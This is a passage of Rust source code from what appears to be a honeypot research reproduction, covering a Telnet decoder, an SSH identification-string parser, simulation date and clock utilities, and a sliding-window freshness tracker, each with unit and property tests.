                        let opt = if self.sub.is_empty() { 0 } else { self.sub[0] };
                        let payload = if self.sub.len() > 1 {
                            self.sub[1..].to_vec()
                        } else {
                            Vec::new()
                        };
                        events.push(TelnetEvent::Subnegotiation { opt, data: payload });
                        self.sub.clear();
                        self.state = State::Data;
                    } else if b == IAC {
                        // Escaped 0xFF inside sub-negotiation.
                        self.sub_push(IAC);
                        self.state = State::Sub;
                    } else {
                        // Malformed; keep the bytes and stay in SB (lenient).
                        self.sub_push(IAC);
                        self.sub_push(b);
                        self.state = State::Sub;
                    }
                }
            }
        }
        self.flush_data(&mut data, &mut events);
        events
    }

    /// Buffer a sub-negotiation byte, bounded by [`MAX_SUB`].
    fn sub_push(&mut self, b: u8) {
        if self.sub.len() < MAX_SUB {
            self.sub.push(b);
        }
    }

    fn flush_data(&self, data: &mut Vec<u8>, events: &mut Vec<TelnetEvent>) {
        if !data.is_empty() {
            events.push(TelnetEvent::Data(std::mem::take(data)));
        }
    }
}

/// Encode plain data for the wire, escaping literal 0xFF bytes.
pub fn encode_data(data: &[u8], out: &mut BytesMut) {
    for &b in data {
        if b == IAC {
            out.put_u8(IAC);
        }
        out.put_u8(b);
    }
}

/// Encode an option negotiation.
pub fn encode_negotiate(verb: u8, opt: u8, out: &mut BytesMut) {
    out.put_u8(IAC);
    out.put_u8(verb);
    out.put_u8(opt);
}

/// The refusal verb to answer a peer's negotiation with (the honeypot plays a
/// dumb NVT: it refuses everything except SGA/ECHO which it accepts, like
/// BusyBox telnetd).
pub fn refusal_for(verb: u8) -> u8 {
    match verb {
        DO => WONT,
        DONT => WONT,
        WILL => DONT,
        WONT => DONT,
        _ => WONT,
    }
}

/// Accumulates [`TelnetEvent::Data`] into CR/LF-terminated lines, the unit the
/// login dialogue and shell operate on.
#[derive(Debug, Clone, Default)]
pub struct LineAssembler {
    buf: Vec<u8>,
}

impl LineAssembler {
    /// Fresh assembler.
    pub fn new() -> Self {
        Self::default()
    }

    /// Push data bytes; returns completed lines (without the terminator).
    /// Handles CR LF, bare LF, and Telnet's CR NUL.
    pub fn push(&mut self, data: &[u8]) -> Vec<String> {
        let mut lines = Vec::new();
        for &b in data {
            match b {
                b'\n' => {
                    // Strip a CR that preceded the LF.
                    if self.buf.last() == Some(&b'\r') {
                        self.buf.pop();
                    }
                    lines.push(String::from_utf8_lossy(&self.buf).into_owned());
                    self.buf.clear();
                }
                0 => {
                    // CR NUL means a bare carriage return: treat CR NUL as EOL
                    // only if the CR is pending.
                    if self.buf.last() == Some(&b'\r') {
                        self.buf.pop();
                        lines.push(String::from_utf8_lossy(&self.buf).into_owned());
                        self.buf.clear();
                    }
                }
                _ => self.buf.push(b),
            }
        }
        lines
    }

    /// Bytes buffered waiting for a terminator.
    pub fn pending(&self) -> &[u8] {
        &self.buf
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn plain_data_passthrough() {
        let mut d = TelnetDecoder::new();
        let ev = d.feed(b"hello");
        assert_eq!(ev, vec![TelnetEvent::Data(b"hello".to_vec())]);
    }

    #[test]
    fn negotiation_decoded() {
        let mut d = TelnetDecoder::new();
        let ev = d.feed(&[IAC, DO, option::ECHO, b'x']);
        assert_eq!(
            ev,
            vec![
                TelnetEvent::Negotiate {
                    verb: DO,
                    opt: option::ECHO
                },
                TelnetEvent::Data(b"x".to_vec()),
            ]
        );
    }

    #[test]
    fn escaped_iac_is_data() {
        let mut d = TelnetDecoder::new();
        let ev = d.feed(&[b'a', IAC, IAC, b'b']);
        assert_eq!(ev, vec![TelnetEvent::Data(vec![b'a', IAC, b'b'])]);
    }

    #[test]
    fn subnegotiation_roundtrip() {
        let mut d = TelnetDecoder::new();
        let ev = d.feed(&[IAC, SB, option::NAWS, 0, 80, 0, 24, IAC, SE]);
        assert_eq!(
            ev,
            vec![TelnetEvent::Subnegotiation {
                opt: option::NAWS,
                data: vec![0, 80, 0, 24],
            }]
        );
    }

    #[test]
    fn split_across_feeds() {
        let mut d = TelnetDecoder::new();
        assert_eq!(d.feed(&[IAC]), vec![]);
        assert_eq!(d.feed(&[WILL]), vec![],);
        assert_eq!(
            d.feed(&[option::SGA]),
            vec![TelnetEvent::Negotiate {
                verb: WILL,
                opt: option::SGA
            }],
        );
    }

    #[test]
    fn bare_command() {
        let mut d = TelnetDecoder::new();
        // IAC NOP (241)
        let ev = d.feed(&[IAC, 241]);
        assert_eq!(ev, vec![TelnetEvent::Command(241)]);
    }

    #[test]
    fn encode_escapes_iac() {
        let mut out = BytesMut::new();
        encode_data(&[1, IAC, 2], &mut out);
        assert_eq!(&out[..], &[1, IAC, IAC, 2]);
    }

    #[test]
    fn refusals() {
        assert_eq!(refusal_for(DO), WONT);
        assert_eq!(refusal_for(WILL), DONT);
    }

    #[test]
    fn line_assembler_variants() {
        let mut la = LineAssembler::new();
        assert_eq!(la.push(b"root\r\n"), vec!["root".to_string()]);
        assert_eq!(la.push(b"admin\n"), vec!["admin".to_string()]);
        assert_eq!(la.push(b"pass\r\0"), vec!["pass".to_string()]);
        assert_eq!(la.push(b"partial"), Vec::<String>::new());
        assert_eq!(la.pending(), b"partial");
        assert_eq!(la.push(b"!\n"), vec!["partial!".to_string()]);
    }

    #[test]
    fn unterminated_subnegotiation_is_bounded() {
        let mut d = TelnetDecoder::new();
        assert_eq!(d.feed(&[IAC, SB, option::NAWS]), vec![]);
        // Pour in far more payload than the cap; memory must stay bounded.
        for _ in 0..10 {
            assert_eq!(d.feed(&[b'A'; 1024]), vec![]);
        }
        let ev = d.feed(&[IAC, SE]);
        let TelnetEvent::Subnegotiation { opt, data } = &ev[0] else {
            panic!("expected subnegotiation, got {ev:?}");
        };
        assert_eq!(*opt, option::NAWS);
        assert_eq!(data.len(), MAX_SUB - 1, "payload truncated at the cap");
    }

    proptest! {
        /// encode_data followed by decode yields the original bytes as Data.
        #[test]
        fn prop_encode_decode_roundtrip(data in proptest::collection::vec(any::<u8>(), 0..200)) {
            let mut out = BytesMut::new();
            encode_data(&data, &mut out);
            let mut d = TelnetDecoder::new();
            let evs = d.feed(&out);
            let mut got = Vec::new();
            for e in evs {
                match e {
                    TelnetEvent::Data(v) => got.extend(v),
                    other => prop_assert!(false, "unexpected event {other:?}"),
                }
            }
            prop_assert_eq!(got, data);
        }

        /// Decoder never panics on arbitrary bytes and always terminates.
        #[test]
        fn prop_decoder_total(data in proptest::collection::vec(any::<u8>(), 0..500)) {
            let mut d = TelnetDecoder::new();
            let _ = d.feed(&data);
        }
    }
}
