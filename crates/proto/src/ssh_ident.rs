//! RFC 4253 §4.2 SSH identification strings.
//!
//! The SSH protocol begins with a plaintext identification line from each
//! side: `SSH-protoversion-softwareversion SP comments CR LF`. This exchange
//! happens *before* key exchange, which is why Cowrie (and our honeypot) can
//! record the client's software version for every session without
//! implementing any cryptography. RFC 4253 also allows the server to send
//! other lines before its identification string, and caps the line at 255
//! bytes including CRLF.

use serde::{Deserialize, Serialize};

/// Maximum identification line length including CR LF (RFC 4253 §4.2).
pub const MAX_IDENT_LEN: usize = 255;

/// A parsed SSH identification string.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct SshIdent {
    /// Protocol version, e.g. `"2.0"` (or `"1.99"` for compat servers).
    pub proto_version: String,
    /// Software name and version, e.g. `"OpenSSH_8.9p1"`.
    pub software: String,
    /// Optional comments field after the first space.
    pub comments: Option<String>,
}

/// Why an identification line failed to parse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IdentError {
    /// Line does not begin with `SSH-`.
    MissingPrefix,
    /// No dash after the protocol version.
    MissingVersionSeparator,
    /// Protocol version or software field is empty.
    EmptyField,
    /// Line exceeds 255 bytes including CRLF.
    TooLong,
    /// Contains bytes outside printable US-ASCII (excluding space and minus
    /// rules relaxed for the comments field).
    BadByte,
}

impl std::fmt::Display for IdentError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            IdentError::MissingPrefix => "identification line must start with 'SSH-'",
            IdentError::MissingVersionSeparator => "missing '-' after protocol version",
            IdentError::EmptyField => "empty protocol-version or software field",
            IdentError::TooLong => "identification line exceeds 255 bytes",
            IdentError::BadByte => "identification line contains non-printable bytes",
        };
        f.write_str(s)
    }
}

impl std::error::Error for IdentError {}

impl SshIdent {
    /// Build an identification struct (unvalidated fields; rendering adds the
    /// framing).
    pub fn new(proto_version: &str, software: &str, comments: Option<&str>) -> Self {
        SshIdent {
            proto_version: proto_version.to_string(),
            software: software.to_string(),
            comments: comments.map(|c| c.to_string()),
        }
    }

    /// Render the on-wire line *without* the trailing CR LF.
    pub fn render(&self) -> String {
        match &self.comments {
            Some(c) => format!("SSH-{}-{} {}", self.proto_version, self.software, c),
            None => format!("SSH-{}-{}", self.proto_version, self.software),
        }
    }

    /// Render the full on-wire bytes including CR LF.
    pub fn wire_bytes(&self) -> Vec<u8> {
        let mut v = self.render().into_bytes();
        v.extend_from_slice(b"\r\n");
        v
    }

    /// Parse an identification line. Accepts lines with or without the
    /// trailing CR/LF, enforcing the RFC's 255-byte cap and US-ASCII rule.
    pub fn parse(line: &str) -> Result<SshIdent, IdentError> {
        let line = line.trim_end_matches(['\r', '\n']);
        if line.len() + 2 > MAX_IDENT_LEN {
            return Err(IdentError::TooLong);
        }
        if line.bytes().any(|b| !(0x20..0x7f).contains(&b)) {
            return Err(IdentError::BadByte);
        }
        let rest = line.strip_prefix("SSH-").ok_or(IdentError::MissingPrefix)?;
        let dash = rest.find('-').ok_or(IdentError::MissingVersionSeparator)?;
        let proto_version = &rest[..dash];
        let tail = &rest[dash + 1..];
        let (software, comments) = match tail.find(' ') {
            Some(sp) => (&tail[..sp], Some(tail[sp + 1..].to_string())),
            None => (tail, None),
        };
        if proto_version.is_empty() || software.is_empty() {
            return Err(IdentError::EmptyField);
        }
        Ok(SshIdent {
            proto_version: proto_version.to_string(),
            software: software.to_string(),
            comments,
        })
    }

    /// Is this a protocol-2 client (2.0, or 1.99 compatibility)?
    pub fn is_v2(&self) -> bool {
        self.proto_version == "2.0" || self.proto_version == "1.99"
    }
}

impl std::fmt::Display for SshIdent {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

/// Client software banners commonly observed by SSH honeypots, used by the
/// traffic generator. Mix of legitimate clients, scan tools, and libraries —
/// the kinds of stacks Ghiëtte et al. fingerprinted (Related Work).
pub const CLIENT_BANNERS: &[&str] = &[
    "SSH-2.0-OpenSSH_8.9p1",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-Go",
    "SSH-2.0-paramiko_2.11.0",
    "SSH-2.0-JSCH-0.1.54",
    "SSH-2.0-PUTTY",
    "SSH-2.0-Granados-1.0",
    "SSH-2.0-sshlib-0.1",
    "SSH-2.0-Zgrab",
];

/// The server banner our honeypot presents (an OpenSSH look-alike, as Cowrie
/// does by default).
pub fn server_ident() -> SshIdent {
    SshIdent::new("2.0", "OpenSSH_8.2p1", Some("Debian-4"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn parse_plain() {
        let id = SshIdent::parse("SSH-2.0-OpenSSH_8.9p1").unwrap();
        assert_eq!(id.proto_version, "2.0");
        assert_eq!(id.software, "OpenSSH_8.9p1");
        assert_eq!(id.comments, None);
        assert!(id.is_v2());
    }

    #[test]
    fn parse_with_comments_and_crlf() {
        let id = SshIdent::parse("SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5\r\n").unwrap();
        assert_eq!(id.software, "OpenSSH_8.2p1");
        assert_eq!(id.comments.as_deref(), Some("Ubuntu-4ubuntu0.5"));
    }

    #[test]
    fn parse_v1() {
        let id = SshIdent::parse("SSH-1.5-Cisco-1.25").unwrap();
        assert_eq!(id.proto_version, "1.5");
        assert!(!id.is_v2());
    }

    #[test]
    fn parse_errors() {
        assert_eq!(
            SshIdent::parse("HTTP/1.1 400"),
            Err(IdentError::MissingPrefix)
        );
        assert_eq!(
            SshIdent::parse("SSH-2.0"),
            Err(IdentError::MissingVersionSeparator)
        );
        assert_eq!(SshIdent::parse("SSH--x"), Err(IdentError::EmptyField));
        assert_eq!(SshIdent::parse("SSH-2.0-"), Err(IdentError::EmptyField));
        let long = format!("SSH-2.0-{}", "x".repeat(300));
        assert_eq!(SshIdent::parse(&long), Err(IdentError::TooLong));
        assert_eq!(
            SshIdent::parse("SSH-2.0-x\u{7f}y"),
            Err(IdentError::BadByte)
        );
    }

    #[test]
    fn render_roundtrip() {
        let id = SshIdent::new("2.0", "OpenSSH_8.2p1", Some("Debian-4"));
        assert_eq!(SshIdent::parse(&id.render()).unwrap(), id);
        assert!(id.wire_bytes().ends_with(b"\r\n"));
    }

    #[test]
    fn banner_catalog_all_parse() {
        for b in CLIENT_BANNERS {
            let id = SshIdent::parse(b).unwrap_or_else(|e| panic!("{b}: {e}"));
            assert!(id.is_v2(), "{b} should be v2");
        }
    }

    #[test]
    fn server_ident_is_valid() {
        let id = server_ident();
        assert_eq!(SshIdent::parse(&id.render()).unwrap(), id);
    }

    proptest! {
        /// Any ident we can render from sane fields parses back to itself.
        #[test]
        fn prop_render_parse_roundtrip(
            ver in "[0-9]\\.[0-9]{1,2}",
            sw in "[A-Za-z][A-Za-z0-9_.]{0,20}",
            comments in proptest::option::of("[ -~&&[^ ]][ -~]{0,20}"),
        ) {
            let id = SshIdent::new(&ver, &sw, comments.as_deref());
            let parsed = SshIdent::parse(&id.render()).unwrap();
            prop_assert_eq!(parsed.proto_version, id.proto_version);
            prop_assert_eq!(parsed.software, id.software);
        }
    }
}
