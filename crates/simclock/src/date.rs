//! Proleptic-Gregorian civil dates with exact day arithmetic.
//!
//! Uses the well-known days-from-civil / civil-from-days algorithms (Howard
//! Hinnant's formulation) so day arithmetic is O(1) and exact across month and
//! leap-year boundaries.

use serde::{Deserialize, Serialize};

/// A civil (calendar) date.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Date {
    /// Gregorian year, e.g. 2022.
    pub year: i32,
    /// Month 1..=12.
    pub month: u8,
    /// Day of month 1..=31.
    pub day: u8,
}

impl Date {
    /// Construct a date, panicking on out-of-range fields (tests/config only).
    pub fn new(year: i32, month: u8, day: u8) -> Self {
        let d = Date { year, month, day };
        assert!(d.is_valid(), "invalid date {year}-{month}-{day}");
        d
    }

    /// Whether the fields denote a real calendar day.
    pub fn is_valid(&self) -> bool {
        self.month >= 1
            && self.month <= 12
            && self.day >= 1
            && self.day <= days_in_month(self.year, self.month)
    }

    /// Days since 1970-01-01 (may be negative before that).
    pub fn days_since_epoch(&self) -> i64 {
        days_from_civil(self.year, self.month, self.day)
    }

    /// Date `n` days after (or before, if negative) this one.
    pub fn add_days(&self, n: i64) -> Date {
        let (y, m, d) = civil_from_days(self.days_since_epoch() + n);
        Date {
            year: y,
            month: m,
            day: d,
        }
    }

    /// `YYYY-MM` key, used for monthly aggregation in figures.
    pub fn month_key(&self) -> String {
        format!("{:04}-{:02}", self.year, self.month)
    }
}

impl std::fmt::Display for Date {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }
}

/// Is `y` a Gregorian leap year?
pub fn is_leap(y: i32) -> bool {
    (y % 4 == 0 && y % 100 != 0) || y % 400 == 0
}

/// Number of days in month `m` of year `y`.
pub fn days_in_month(y: i32, m: u8) -> u8 {
    match m {
        1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
        4 | 6 | 9 | 11 => 30,
        2 => {
            if is_leap(y) {
                29
            } else {
                28
            }
        }
        _ => 0,
    }
}

/// Days since 1970-01-01 for a civil date (Hinnant's days_from_civil).
fn days_from_civil(y: i32, m: u8, d: u8) -> i64 {
    let y = y as i64 - if m <= 2 { 1 } else { 0 };
    let era = if y >= 0 { y } else { y - 399 } / 400;
    let yoe = y - era * 400; // [0, 399]
    let mp = (m as i64 + 9) % 12; // Mar=0 .. Feb=11
    let doy = (153 * mp + 2) / 5 + d as i64 - 1; // [0, 365]
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy; // [0, 146096]
    era * 146_097 + doe - 719_468
}

/// Civil date for days since 1970-01-01 (Hinnant's civil_from_days).
fn civil_from_days(z: i64) -> (i32, u8, u8) {
    let z = z + 719_468;
    let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
    let doe = z - era * 146_097; // [0, 146096]
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365; // [0, 399]
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100); // [0, 365]
    let mp = (5 * doy + 2) / 153; // [0, 11]
    let d = (doy - (153 * mp + 2) / 5 + 1) as u8; // [1, 31]
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u8; // [1, 12]
    ((y + if m <= 2 { 1 } else { 0 }) as i32, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn unix_epoch_is_day_zero() {
        assert_eq!(Date::new(1970, 1, 1).days_since_epoch(), 0);
    }

    #[test]
    fn known_offsets() {
        assert_eq!(Date::new(1970, 1, 2).days_since_epoch(), 1);
        assert_eq!(Date::new(1969, 12, 31).days_since_epoch(), -1);
        assert_eq!(Date::new(2000, 3, 1).days_since_epoch(), 11_017);
        // Study window endpoints.
        assert_eq!(Date::new(2021, 12, 1).days_since_epoch(), 18_962);
        assert_eq!(Date::new(2023, 3, 31).days_since_epoch(), 19_447);
    }

    #[test]
    fn month_lengths() {
        assert_eq!(days_in_month(2022, 2), 28);
        assert_eq!(days_in_month(2020, 2), 29);
        assert_eq!(days_in_month(1900, 2), 28); // century rule
        assert_eq!(days_in_month(2000, 2), 29); // 400-year rule
        assert_eq!(days_in_month(2022, 12), 31);
    }

    #[test]
    fn add_days_across_year_boundary() {
        assert_eq!(Date::new(2021, 12, 31).add_days(1), Date::new(2022, 1, 1));
        assert_eq!(Date::new(2022, 1, 1).add_days(-1), Date::new(2021, 12, 31));
    }

    #[test]
    fn display_and_month_key() {
        let d = Date::new(2022, 9, 5);
        assert_eq!(d.to_string(), "2022-09-05");
        assert_eq!(d.month_key(), "2022-09");
    }

    #[test]
    #[should_panic]
    fn invalid_date_panics() {
        Date::new(2022, 2, 29);
    }

    proptest! {
        /// Roundtrip: civil -> days -> civil is the identity.
        #[test]
        fn prop_civil_days_roundtrip(days in -1_000_000i64..1_000_000i64) {
            let (y, m, d) = civil_from_days(days);
            prop_assert_eq!(days_from_civil(y, m, d), days);
            let date = Date { year: y, month: m, day: d };
            prop_assert!(date.is_valid());
        }

        /// add_days is additive: (d + a) + b == d + (a + b).
        #[test]
        fn prop_add_days_additive(a in -10_000i64..10_000, b in -10_000i64..10_000) {
            let d = Date::new(2022, 6, 15);
            prop_assert_eq!(d.add_days(a).add_days(b), d.add_days(a + b));
        }

        /// Ordering of dates matches ordering of epoch offsets.
        #[test]
        fn prop_order_consistent(a in -100_000i64..100_000, b in -100_000i64..100_000) {
            let da = Date::new(1970, 1, 1).add_days(a);
            let db = Date::new(1970, 1, 1).add_days(b);
            prop_assert_eq!(da.cmp(&db), a.cmp(&b));
        }
    }
}
