//! Simulation time for the honeyfarm reproduction.
//!
//! The paper analyses 15 months of data — December 1, 2021 through March 31,
//! 2023 (486 days). All analyses are keyed on civil days ("sessions per day",
//! "hashes fresh within the last 7/30 days", …), so this crate provides:
//!
//! - [`Date`]: a proleptic-Gregorian civil date with exact day arithmetic,
//! - [`SimInstant`]: seconds since the simulation epoch (2021-12-01 00:00 UTC),
//! - [`StudyWindow`]: the paper's observation period with day indexing,
//! - [`SlidingDayWindow`]: the "seen within the last N days" freshness helper.
//!
//! Everything is integer math; there are no wall-clock reads, which keeps the
//! whole simulation bit-reproducible.

mod date;
mod window;

pub use date::Date;
pub use window::SlidingDayWindow;

use serde::{Deserialize, Serialize};

/// Seconds since the simulation epoch, 2021-12-01T00:00:00Z.
///
/// A plain newtype over `u64`; one tick is one second. Sub-second resolution is
/// unnecessary: the honeypot logs session start/end at second granularity,
/// like Cowrie's JSON log.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimInstant(pub u64);

/// Length of a civil day in seconds.
pub const SECS_PER_DAY: u64 = 86_400;

impl SimInstant {
    /// The simulation epoch (start of the study window).
    pub const EPOCH: SimInstant = SimInstant(0);

    /// Construct from a day index and a second-of-day offset.
    pub fn from_day_and_secs(day: u32, secs_of_day: u32) -> Self {
        debug_assert!((secs_of_day as u64) < SECS_PER_DAY);
        SimInstant(day as u64 * SECS_PER_DAY + secs_of_day as u64)
    }

    /// Day index since the epoch (day 0 = 2021-12-01).
    pub fn day(self) -> u32 {
        (self.0 / SECS_PER_DAY) as u32
    }

    /// Seconds into the current day.
    pub fn secs_of_day(self) -> u32 {
        (self.0 % SECS_PER_DAY) as u32
    }

    /// Add a duration in seconds.
    pub fn add_secs(self, secs: u64) -> Self {
        SimInstant(self.0 + secs)
    }

    /// Signed difference `self - other` in seconds.
    pub fn delta_secs(self, other: SimInstant) -> i64 {
        self.0 as i64 - other.0 as i64
    }

    /// Civil date corresponding to this instant.
    pub fn date(self) -> Date {
        StudyWindow::EPOCH_DATE.add_days(self.day() as i64)
    }

    /// Render as `YYYY-MM-DDTHH:MM:SSZ` (Cowrie-style timestamp).
    pub fn to_rfc3339(self) -> String {
        let d = self.date();
        let s = self.secs_of_day();
        format!(
            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
            d.year,
            d.month,
            d.day,
            s / 3600,
            (s / 60) % 60,
            s % 60
        )
    }
}

/// The paper's observation window with day indexing helpers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct StudyWindow {
    /// First day of the window (inclusive).
    pub start: Date,
    /// Last day of the window (inclusive).
    pub end: Date,
}

impl StudyWindow {
    /// Epoch date used by [`SimInstant`].
    pub const EPOCH_DATE: Date = Date {
        year: 2021,
        month: 12,
        day: 1,
    };

    /// The paper's window: 2021-12-01 ..= 2023-03-31 (486 days).
    pub fn paper() -> Self {
        StudyWindow {
            start: Self::EPOCH_DATE,
            end: Date {
                year: 2023,
                month: 3,
                day: 31,
            },
        }
    }

    /// A truncated window starting at the epoch, for fast tests.
    pub fn first_days(n: u32) -> Self {
        assert!(n >= 1);
        StudyWindow {
            start: Self::EPOCH_DATE,
            end: Self::EPOCH_DATE.add_days(n as i64 - 1),
        }
    }

    /// Number of days in the window (inclusive of both ends).
    pub fn num_days(&self) -> u32 {
        (self.end.days_since_epoch() - self.start.days_since_epoch() + 1) as u32
    }

    /// Day index (0-based from the window start) of a date, if inside.
    pub fn day_index(&self, d: Date) -> Option<u32> {
        let idx = d.days_since_epoch() - self.start.days_since_epoch();
        if idx >= 0 && (idx as u32) < self.num_days() {
            Some(idx as u32)
        } else {
            None
        }
    }

    /// Date of the given day index.
    pub fn date_of(&self, day: u32) -> Date {
        debug_assert!(day < self.num_days());
        self.start.add_days(day as i64)
    }

    /// Iterate all day indices in the window.
    pub fn days(&self) -> std::ops::Range<u32> {
        0..self.num_days()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_window_is_486_days() {
        let w = StudyWindow::paper();
        assert_eq!(w.num_days(), 486);
        assert_eq!(w.date_of(0), Date::new(2021, 12, 1));
        assert_eq!(w.date_of(485), Date::new(2023, 3, 31));
    }

    #[test]
    fn day_indexing_roundtrip() {
        let w = StudyWindow::paper();
        for day in [0u32, 1, 30, 31, 100, 365, 485] {
            let d = w.date_of(day);
            assert_eq!(w.day_index(d), Some(day));
        }
        assert_eq!(w.day_index(Date::new(2021, 11, 30)), None);
        assert_eq!(w.day_index(Date::new(2023, 4, 1)), None);
    }

    #[test]
    fn instant_day_math() {
        let t = SimInstant::from_day_and_secs(3, 7200);
        assert_eq!(t.day(), 3);
        assert_eq!(t.secs_of_day(), 7200);
        assert_eq!(t.add_secs(SECS_PER_DAY).day(), 4);
        assert_eq!(t.delta_secs(SimInstant::EPOCH), 3 * 86_400 + 7200);
    }

    #[test]
    fn rfc3339_rendering() {
        assert_eq!(
            SimInstant::from_day_and_secs(0, 0).to_rfc3339(),
            "2021-12-01T00:00:00Z"
        );
        assert_eq!(
            SimInstant::from_day_and_secs(31, 86_399).to_rfc3339(),
            "2022-01-01T23:59:59Z"
        );
    }

    #[test]
    fn truncated_window() {
        let w = StudyWindow::first_days(7);
        assert_eq!(w.num_days(), 7);
        assert_eq!(w.date_of(6), Date::new(2021, 12, 7));
    }

    #[test]
    fn leap_year_2022_is_not_leap_2024_is() {
        // 2022 is not a leap year; Feb has 28 days.
        let feb28 = Date::new(2022, 2, 28);
        assert_eq!(feb28.add_days(1), Date::new(2022, 3, 1));
        // 2024 is a leap year (outside the window, but Date supports it).
        let feb28 = Date::new(2024, 2, 28);
        assert_eq!(feb28.add_days(1), Date::new(2024, 2, 29));
    }
}
