//! Sliding "seen within the last N days" tracking.
//!
//! Section 8.3 of the paper defines hash *freshness* three ways: never seen
//! before, not seen within the last 30 days, and not seen within the last 7
//! days. [`SlidingDayWindow`] supports all three with O(1) amortized updates:
//! it remembers, per key, the last day the key was observed, and a ring of
//! per-day key lists so stale entries can be expired without scanning the
//! whole map.

use std::collections::HashMap;
use std::hash::{BuildHasher, Hash};

/// Tracks, for each key, whether it has been seen within the last `n_days`
/// days (a value of `None` for `n_days` means "ever").
///
/// Generic over the hasher so hot consumers (the freshness series hashes
/// millions of interned ids) can substitute a cheap deterministic one; the
/// default stays `RandomState`, matching `HashMap`.
#[derive(Debug, Clone)]
pub struct SlidingDayWindow<K: Eq + Hash + Clone, S = std::collections::hash_map::RandomState> {
    /// Window length in days; `None` = unbounded ("ever seen").
    n_days: Option<u32>,
    /// Last day each live key was seen.
    last_seen: HashMap<K, u32, S>,
    /// Current day being recorded.
    current_day: u32,
}

impl<K: Eq + Hash + Clone, S: BuildHasher + Default> SlidingDayWindow<K, S> {
    /// A bounded window: "seen within the last `n_days` days" (n >= 1).
    pub fn with_days(n_days: u32) -> Self {
        assert!(n_days >= 1);
        SlidingDayWindow {
            n_days: Some(n_days),
            last_seen: HashMap::default(),
            current_day: 0,
        }
    }

    /// An unbounded window: "ever seen before".
    pub fn unbounded() -> Self {
        SlidingDayWindow {
            n_days: None,
            last_seen: HashMap::default(),
            current_day: 0,
        }
    }

    /// Record an observation of `key` on `day` (days must be non-decreasing).
    /// Returns `true` if the key was *fresh*: not seen within the window
    /// before this observation.
    pub fn observe(&mut self, key: K, day: u32) -> bool {
        debug_assert!(day >= self.current_day, "days must be fed in order");
        self.current_day = day;
        let fresh = match self.last_seen.get(&key) {
            None => true,
            Some(&last) => match self.n_days {
                None => false,
                // Seen `last`, now `day`: stale iff the gap spans > n_days-1
                // full days, i.e. "within the last 7 days" means last >= day-6.
                Some(n) => day.saturating_sub(last) >= n,
            },
        };
        self.last_seen.insert(key, day);
        fresh
    }

    /// Whether `key` would be considered fresh if observed on `day`.
    pub fn is_fresh(&self, key: &K, day: u32) -> bool {
        match self.last_seen.get(key) {
            None => true,
            Some(&last) => match self.n_days {
                None => false,
                Some(n) => day.saturating_sub(last) >= n,
            },
        }
    }

    /// Number of distinct keys ever inserted (live map size).
    pub fn len(&self) -> usize {
        self.last_seen.len()
    }

    /// True if no key has ever been observed.
    pub fn is_empty(&self) -> bool {
        self.last_seen.is_empty()
    }

    /// Drop entries older than the window to bound memory on huge runs.
    /// Safe to call at any day boundary; a no-op for unbounded windows.
    pub fn compact(&mut self) {
        if let Some(n) = self.n_days {
            // Entries with last < current_day - n can never again influence
            // freshness (any future observation day d >= current_day has
            // d - last > n, which is already "fresh").
            let min_keep = self.current_day.saturating_sub(n);
            self.last_seen.retain(|_, &mut last| last >= min_keep);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Constructor calls don't infer the defaulted hasher parameter, so the
    /// tests name the default explicitly.
    type W = SlidingDayWindow<&'static str>;

    #[test]
    fn unbounded_fresh_only_once() {
        let mut w = W::unbounded();
        assert!(w.observe("h1", 0));
        assert!(!w.observe("h1", 0));
        assert!(!w.observe("h1", 400));
        assert!(w.observe("h2", 400));
        assert_eq!(w.len(), 2);
    }

    #[test]
    fn seven_day_window_semantics() {
        let mut w = W::with_days(7);
        assert!(w.observe("h", 10)); // first sighting
        assert!(!w.observe("h", 11)); // 1 day later: not fresh
        assert!(!w.observe("h", 16)); // gap 5 < 7: not fresh
        assert!(!w.observe("h", 22)); // gap 6 < 7: not fresh
        assert!(w.observe("h", 29)); // gap 7 >= 7: fresh again
    }

    #[test]
    fn is_fresh_does_not_mutate() {
        let mut w = W::with_days(30);
        w.observe("x", 5);
        assert!(!w.is_fresh(&"x", 20));
        assert!(w.is_fresh(&"x", 35));
        assert!(w.is_fresh(&"y", 0));
        // observing again still reports per the pre-observation state
        assert!(w.observe("x", 40));
    }

    #[test]
    fn compact_preserves_semantics() {
        let mut w = W::with_days(7);
        w.observe("old", 0);
        w.observe("new", 99);
        w.compact();
        // "old" was expired but would be fresh anyway; "new" must survive.
        assert!(w.is_fresh(&"old", 100));
        assert!(!w.is_fresh(&"new", 100));
        assert_eq!(w.len(), 1);
    }

    #[test]
    fn same_day_repeat_is_not_fresh() {
        let mut w = W::with_days(1);
        assert!(w.observe("k", 3));
        assert!(!w.observe("k", 3));
